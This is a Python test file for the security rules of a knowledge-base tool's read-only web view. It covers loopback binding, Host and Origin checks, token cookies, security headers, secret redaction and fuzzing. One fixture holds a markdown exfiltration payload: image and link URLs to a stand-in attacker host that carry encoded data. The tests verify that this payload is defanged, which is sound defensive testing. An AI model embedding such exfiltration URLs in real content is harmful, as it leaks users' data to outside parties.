"""The web view's security rules (issue 12, "Safe on a shared machine"), one test each,
against the real app (TestClient) and the real ``kb-mcp web`` process on a real socket:
loopback by default, Host (DNS rebinding) and Origin checked, the token beyond loopback,
read-only (GET only; nothing changes), the headers, and every page redacted as the tools
redact: the secrets corpus of ``test_secrets_corpus.py`` (issue 7 / 11) seeded and every
page checked ("web pages" place, docs/security.md), plus exfiltration URLs.
"""

from __future__ import annotations

import re
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from library_checks import table_digest
from starlette.testclient import TestClient
from test_secrets_corpus import CORPUS

from kb_mcp.library import DB_FILE, Library
from kb_mcp.settings import Settings
from kb_mcp.web.app import build_app
from kb_mcp.web.guard import CSP, TOKEN_COOKIE, Policy

PAGES = ("/", "/search?q=password", "/entities", "/audit", "/doc/x", "/static/web.css")
EXFIL = (
    "# Notes\n\nSee ![status](https://evil.example/pixel.png?d=aGVsbG8gc2VjcmV0) and "
    "[docs](https://evil.example/c?x=QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w)"
    "\n"
)


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    """The secrets corpus through a folder, uploads and add_document; an exfil document."""
    root = tmp_path_factory.mktemp("websec")
    folder, uploads = root / "corpus", root / "uploads"
    folder.mkdir()
    uploads.mkdir()
    for name, text, _secrets in CORPUS.values():
        (folder / name).write_text(text, encoding="utf-8")
        (uploads / name).write_text(text + "\nuploaded\n", encoding="utf-8")
    (folder / "exfil.md").write_text(EXFIL, encoding="utf-8")
    library = Library(Settings(home=root / "home", embedder="none"))
    library.folders.add_folder(folder, "corpus")
    library.folders.sync()
    for kind, (name, text, _secrets) in CORPUS.items():
        library.writing.import_file(uploads / name)
        library.writing.add_document(f"{kind} note", text, f"test://{name}", by_agent=False)
    yield library
    library.close()


def client_for(library: Library, policy: Policy, base: str = "http://127.0.0.1:8765"):
    return TestClient(build_app(library, policy), base_url=base)


@pytest.fixture(scope="module")
def local(seeded: Library) -> Iterator[TestClient]:
    with client_for(seeded, Policy("127.0.0.1", None)) as client:
        yield client


def test_web_binds_loopback_by_default_on_a_free_port(
    tmp_path: Path, child_env: dict[str, str]
) -> None:
    """issue 12: bound to 127.0.0.1 on a free port by default; the URL is printed; Ctrl-C
    (SIGINT) ends it cleanly."""
    server = web_process(tmp_path / "home", child_env)
    with server as url:
        assert re.fullmatch(r"http://127\.0\.0\.1:\d+/", url), url
        assert int(url.rsplit(":", 1)[1].strip("/")) > 0
        page = httpx.get(url, timeout=60)
        assert page.status_code == 200 and "<h1>Library</h1>" in page.text
        assert server.process is not None
        server.process.send_signal(signal.SIGINT)
        # 0 once uvicorn handles the signal; 130 (the CLI's Ctrl-C exit) if it lands
        # before uvicorn installed its handler. Never a traceback.
        assert server.process.wait(timeout=20) in (0, 130)
        assert server.process.stderr is not None
        assert "Traceback" not in server.process.stderr.read()


def test_web_host_header_must_be_loopback_or_the_bound_address(
    seeded: Library, local: TestClient
) -> None:
    """issue 12 (DNS rebinding): a foreign Host is 421, none is 400; loopback names pass."""
    for path in PAGES:
        assert local.get(path, headers={"host": "evil.example:8765"}).status_code == 421
    assert local.get("/", headers={"host": "127.0.0.1.evil.example"}).status_code == 421
    for host in ("127.0.0.1:8765", "localhost:8765", "[::1]:8765", "LOCALHOST"):
        assert local.get("/", headers={"host": host}).status_code == 200, host
    bound = client_for(seeded, Policy("10.1.2.3", "t"))
    assert bound.get("/?token=t", headers={"host": "10.1.2.3:80"}).status_code == 200
    assert bound.get("/?token=t", headers={"host": "10.9.9.9:80"}).status_code == 421


def test_web_host_header_missing_is_400(seeded: Library) -> None:
    """A request with no Host at all (HTTP/1.0 style) is refused with a reason."""
    import anyio

    from kb_mcp.web.guard import Guard

    sent: list[dict] = []

    async def run() -> None:
        app = build_app(seeded, Policy("127.0.0.1", None))
        assert isinstance(app, Guard)
        scope = {"type": "http", "method": "GET", "path": "/", "headers": [], "query_string": b""}

        async def receive() -> dict:
            return {"type": "http.request", "body": b""}

        async def send(message: dict) -> None:
            sent.append(message)

        await app(scope, receive, send)

    anyio.run(run)
    assert sent[0]["status"] == 400 and b"no Host header" in sent[1]["body"]


def test_web_origin_when_present_must_be_this_server(local: TestClient) -> None:
    """issue 12: another site's Origin (or ``null``) is 403; our own origin passes."""
    ours = {"host": "127.0.0.1:8765", "origin": "http://127.0.0.1:8765"}
    assert local.get("/", headers=ours).status_code == 200
    for origin in (
        "http://evil.example",
        "null",
        "http://127.0.0.1:9999",
        "https://127.0.0.1:8765",
    ):
        refused = local.get("/search?q=token", headers={"origin": origin})
        assert refused.status_code == 403, origin
        assert "are not accepted" in refused.text


def test_web_token_required_beyond_loopback_then_kept_in_a_cookie(seeded: Library) -> None:
    """issue 12: bound beyond loopback, the printed URL's token is required; the first
    visit sets an HttpOnly SameSite=Strict cookie that later requests carry."""
    with client_for(seeded, Policy("0.0.0.0", "s3cr3t-token"), "http://192.0.2.7:8765") as c:
        for path in PAGES:
            assert c.get(path).status_code == 401, path
        assert c.get("/?token=wrong").status_code == 401
        first = c.get("/?token=s3cr3t-token")
        assert first.status_code == 200
        cookie = first.headers["set-cookie"]
        assert cookie.startswith(f"{TOKEN_COOKIE}=s3cr3t-token") and "HttpOnly" in cookie
        assert "SameSite=Strict" in cookie
        assert c.get("/audit").status_code == 200  # the cookie, no token in the URL
        c.cookies.clear()
        assert c.get("/audit").status_code == 401


def test_web_token_in_the_printed_url_of_a_real_process_beyond_loopback(
    tmp_path: Path, child_env: dict[str, str]
) -> None:
    """The real process bound to 0.0.0.0 prints a URL with a fresh token; without it, 401."""
    with web_process(tmp_path / "home", child_env, "--host", "0.0.0.0") as url:
        assert re.fullmatch(r"http://0\.0\.0\.0:\d+/\?token=[\w-]{20,}", url), url
        port = url.split(":")[2].split("/")[0]
        base = f"http://127.0.0.1:{port}/"
        assert httpx.get(base, timeout=60).status_code == 401
        token = url.split("token=")[1]
        assert httpx.get(f"{base}?token={token}", timeout=60).status_code == 200


def test_web_is_read_only_every_other_method_is_405_and_nothing_changes(
    seeded: Library, local: TestClient
) -> None:
    """issue 12: no endpoint writes: POST / PUT / PATCH / DELETE / OPTIONS are 405 on
    every page and the database is the same afterwards."""
    db = seeded.home / DB_FILE
    before = table_digest(db)
    for path in PAGES:
        for method in ("POST", "PUT", "PATCH", "DELETE", "OPTIONS"):
            answer = local.request(method, path, content=b"title=x&content=y")
            assert answer.status_code == 405, (method, path)
            assert answer.headers["allow"] == "GET, HEAD"
    assert local.head("/").status_code == 200
    assert table_digest(db) == before


def test_web_security_headers_on_every_response_errors_included(local: TestClient) -> None:
    """issue 12: CSP (no script; frame-ancestors 'none'), nosniff, no-referrer."""
    answers = [local.get(p) for p in PAGES] + [
        local.get("/doc/nope"),
        local.get("/search?q=x&mode=bad"),
        local.get("/", headers={"host": "evil.example"}),
        local.post("/"),
    ]
    for answer in answers:
        assert answer.headers["content-security-policy"] == CSP
        assert "script-src 'none'" in CSP and "frame-ancestors 'none'" in CSP
        assert "default-src 'self'" in CSP
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "no-referrer"
    for answer in answers[:5]:
        assert "<script" not in answer.text


def _pages_of(library: Library, client: TestClient) -> dict[str, str]:
    """Every page a person can open on the seeded library, by URL."""
    urls = ["/", "/audit", "/entities"]
    for source in ("corpus", "agent", "uploads"):
        listing = library.catalog.list_source(source, limit=200)
        urls += [f"/doc/{d.doc}" for d in listing.documents]
        urls.append(f"/search?q=password+token+key&source={source}")
    for kind, (_name, text, secrets) in CORPUS.items():
        words = "+".join(re.findall(r"[A-Za-z]{4,}", text)[:6]) or kind
        urls += [f"/search?q={words}", f"/search?q={words}&mode=keyword"]
        urls += [f"/search?q={s[:3]}" for s in secrets]
        urls += [f"/entities?q={w}" for w in re.findall(r"[A-Za-z]{5,}", text)[:3]]
    for view in library.entities.find(None, 50):
        urls.append(f"/entities?q={view.name}")
    return {url: client.get(url).text for url in dict.fromkeys(urls)}


def test_web_pages_leak_no_secret_of_the_corpus_and_defang_exfil_urls(
    seeded: Library, local: TestClient, figures
) -> None:
    """issue 12 / docs/security.md "web pages": the secrets corpus seeded through a
    folder, uploads and add_document; no value appears in any page (documents, search
    for their words and the values' first characters, entities, library, audit), and an
    exfiltration URL in a document is defanged on the page as in a tool result."""
    pages = _pages_of(seeded, local)
    leaks = {
        kind: sorted(url for url, text in pages.items() if secret in text)
        for kind, (_n, _t, secrets) in CORPUS.items()
        for secret in secrets
    }
    leaks = {kind: urls for kind, urls in leaks.items() if urls}
    assert leaks == {}
    exfil = next(
        url
        for url, text in pages.items()
        if url.startswith("/doc/") and "[REDACTED:exfil_url]" in text and "Notes" in text
    )
    # No URL a browser would fetch or follow carries the data, and no entity name keeps
    # the payload either (the extractor takes nothing from inside a URL).
    assert "pixel.png?d=" not in pages[exfil]
    assert not [url for url, text in pages.items() if "aGVsbG8gc2VjcmV0" in text]
    assert "c?x=QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVph" not in pages[exfil]
    docs = sum(url.startswith("/doc/") for url in pages)
    figures(
        "web",
        f"{len(CORPUS)} secret kinds x 3 sources: {len(pages)} pages ({docs} documents), 0 leaks",
    )


# --- the real process -----------------------------------------------------------------

URL_LINE = re.compile(r"at (http://\S+)")


class web_process:  # a context manager used like a function
    """``kb-mcp web --home HOME [args]`` as a subprocess; yields the URL it printed."""

    def __init__(self, home: Path, env: dict[str, str], *args: str) -> None:
        self.command = [sys.executable, "-m", "kb_mcp", "web", "--home", str(home), *args]
        self.env = env
        self.process: subprocess.Popen[str] | None = None

    def __enter__(self) -> str:
        self.process = subprocess.Popen(
            self.command, env=self.env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
        )
        assert self.process.stdout is not None
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            line = self.process.stdout.readline()
            found = URL_LINE.search(line)
            if found:
                return found[1]
            if not line and self.process.poll() is not None:
                break
        self.__exit__()
        raise AssertionError(f"kb-mcp web printed no URL: {self.process.stderr.read()}")

    def __exit__(self, *exc: object) -> None:
        assert self.process is not None
        if self.process.poll() is None:
            self.process.terminate()
            try:
                self.process.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()


def test_web_bad_port_or_host_is_a_clear_error_not_a_traceback(
    tmp_path: Path, child_env: dict[str, str]
) -> None:
    """``kb-mcp web --port 70000`` / an address this machine does not have: exit 2 with
    what failed and what to do, nothing served."""
    for args in (("--port", "70000"), ("--host", "203.0.113.9")):
        done = subprocess.run(
            [sys.executable, "-m", "kb_mcp", "web", "--home", str(tmp_path / "h"), *args],
            env=child_env,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert done.returncode == 2, done.stderr
        assert "kb-mcp: " in done.stderr and "Traceback" not in done.stderr
        assert "--port" in done.stderr or "--host" in done.stderr


_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=60)
_PARAMS = st.fixed_dictionaries(
    {},
    optional={
        "q": st.one_of(_TEXT, st.sampled_from(["NOT", '"', "*", "a OR b", "(", "日本語"])),
        "mode": st.one_of(st.sampled_from(["auto", "keyword", "vector", "hybrid"]), _TEXT),
        "source": st.one_of(st.sampled_from(["corpus", "agent", ""]), _TEXT),
        "lines": st.one_of(st.sampled_from(["1-3", "0", "3-1", "99999999999"]), _TEXT),
        "start_line": st.one_of(st.sampled_from(["1", "2", "0", "99999999999", "١"]), _TEXT),
    },
)


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    path=st.sampled_from(["/", "/search", "/entities", "/audit", "/doc/", "/doc/exfil.md"]),
    tail=_TEXT,
    params=_PARAMS,
)
def test_web_fuzzed_paths_and_parameters_never_give_an_internal_error(
    local: TestClient, path: str, tail: str, params: dict[str, str]
) -> None:
    """Any path tail and query parameters (hypothesis): an answer or a clear 4xx error
    page, never a 500 nor a traceback."""
    url = path + (quote(tail, safe="") if path == "/doc/" else "")
    answer = local.get(url, params=params)
    assert answer.status_code in (200, 400, 404), (url, params, answer.text[-400:])
    assert "Traceback" not in answer.text
